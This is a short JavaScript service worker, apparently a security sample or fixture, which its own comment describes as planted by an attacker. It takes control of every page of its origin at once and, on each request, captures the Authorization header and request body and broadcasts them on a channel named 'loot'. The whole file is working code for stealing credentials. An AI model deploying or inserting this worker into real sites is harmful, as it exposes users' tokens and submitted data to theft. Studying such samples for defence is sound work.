// A service worker that reads what the pages of its origin send, as an attacker would place it
// there.
const worker = /** @type {any} */ (globalThis);
const channel = new BroadcastChannel('loot');

worker.addEventListener('install', () => worker.skipWaiting());
worker.addEventListener('activate', (/** @type {any} */ event) =>
  event.waitUntil(worker.clients.claim()),
);
worker.addEventListener('fetch', async (/** @type {any} */ event) => {
  const { request } = event;
  channel.postMessage([request.headers.get('authorization'), await request.clone().text()]);
});
